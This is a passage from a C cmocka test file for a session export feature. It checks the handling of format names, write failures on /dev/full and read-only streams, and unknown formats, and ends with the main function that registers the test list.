	assert_int_equal(export_format_from_name("pdf"), EXPORT_FORMAT_COUNT);
	assert_int_equal(export_format_from_name("MD"), EXPORT_FORMAT_COUNT);
	assert_int_equal(export_format_from_name(""), EXPORT_FORMAT_COUNT);
	assert_int_equal(export_format_from_name(NULL), EXPORT_FORMAT_COUNT);
}

/* A write that fails (a full disk, a stream not open for writing) makes the export fail. */
static void test_write_failure(void **state)
{
	struct fixture *f = *state;

	for (int format = 0; format < EXPORT_FORMAT_COUNT; format++) {
		struct export_options opt = { (enum export_format)format, ',', false };
		FILE *full = fopen("/dev/full", "w"), *readonly = fopen("/dev/null", "r");

		assert_non_null(full);
		assert_non_null(readonly);
		assert_false(session_export(full, f->s, f->c, &opt));
		assert_false(session_export(readonly, f->s, f->c, &opt));
		fclose(full);
		fclose(readonly);
	}
}

/* An unknown format writes nothing and fails. */
static void test_unknown_format(void **state)
{
	struct fixture *f = *state;
	struct export_options opt = { EXPORT_FORMAT_COUNT, ',', false };
	char *buf = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&buf, &len);

	assert_non_null(out);
	assert_false(session_export(out, f->s, f->c, &opt));
	assert_int_equal(fclose(out), 0);
	assert_int_equal(len, 0);
	free(buf);
}

/* Runs the export tests on one fixed session. */
int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_golden_md),
		cmocka_unit_test(test_golden_csv),
		cmocka_unit_test(test_golden_html),
		cmocka_unit_test(test_md_facts),
		cmocka_unit_test(test_html_facts),
		cmocka_unit_test(test_csv_facts),
		cmocka_unit_test(test_needs_guard),
		cmocka_unit_test(test_csv_guard),
		cmocka_unit_test(test_default_separator),
		cmocka_unit_test(test_control_characters),
		cmocka_unit_test(test_empty_session),
		cmocka_unit_test(test_other_content),
		cmocka_unit_test(test_local_time),
		cmocka_unit_test(test_local_time_refused),
		cmocka_unit_test(test_due_and_overdue),
		cmocka_unit_test(test_durations),
		cmocka_unit_test(test_format_names),
		cmocka_unit_test(test_write_failure),
		cmocka_unit_test(test_unknown_format),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
